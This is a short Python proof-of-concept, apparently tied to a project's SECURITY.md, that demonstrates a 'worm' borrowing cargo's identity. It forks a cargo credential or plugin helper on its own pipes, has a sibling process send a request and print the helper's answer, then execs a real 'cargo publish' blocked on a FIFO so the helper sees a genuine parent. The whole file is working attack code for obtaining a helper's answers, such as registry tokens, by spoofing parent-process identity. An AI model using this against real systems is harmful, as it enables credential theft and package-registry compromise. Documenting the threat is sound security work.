"""A worm borrows cargo's identity (SECURITY.md, "Cargo's identity, borrowed").

It forks the helper with pipes of its own, hands the other ends to a sibling that speaks
the protocol, and then exec's a genuine `cargo publish` that blocks on a FIFO Cargo.toml in
a directory holding a .crate that matches the forged checksum. The helper's parent is then
a genuine cargo, in the right directory, with the right command line.

usage: borrow_cargo.py HELPER CARGO PROJECT_DIR REQUEST_LINE KEEP
KEEP=keep: the genuine cargo also inherits the worm's pipe ends (no close-on-exec).
The sibling prints the helper's answer on its stdout.
"""
import os, sys

helper, cargo, project, request, keep = sys.argv[1:6]
to_helper_r, to_helper_w = os.pipe()
from_helper_r, from_helper_w = os.pipe()

helper_pid = os.fork()
if helper_pid == 0:
    os.dup2(to_helper_r, 0)
    os.dup2(from_helper_w, 1)
    for fd in (to_helper_r, to_helper_w, from_helper_r, from_helper_w):
        os.close(fd)
    os.execv(helper, [helper, "--cargo-plugin"])

sibling = os.fork()
if sibling == 0:
    os.close(to_helper_r)
    os.close(from_helper_w)
    out = os.fdopen(from_helper_r, "r")
    out.readline()  # hello
    os.write(to_helper_w, (request + "\n").encode())
    answer = out.readline()
    sys.stdout.write(answer)
    sys.stdout.flush()
    os._exit(0)

os.close(to_helper_r)
os.close(from_helper_w)
if keep == "keep":
    os.set_inheritable(to_helper_w, True)
    os.set_inheritable(from_helper_r, True)
else:
    os.close(to_helper_w)
    os.close(from_helper_r)
os.chdir(project)
os.execv(cargo, [cargo, "publish", "--registry", "local", "--no-verify", "--allow-dirty"])
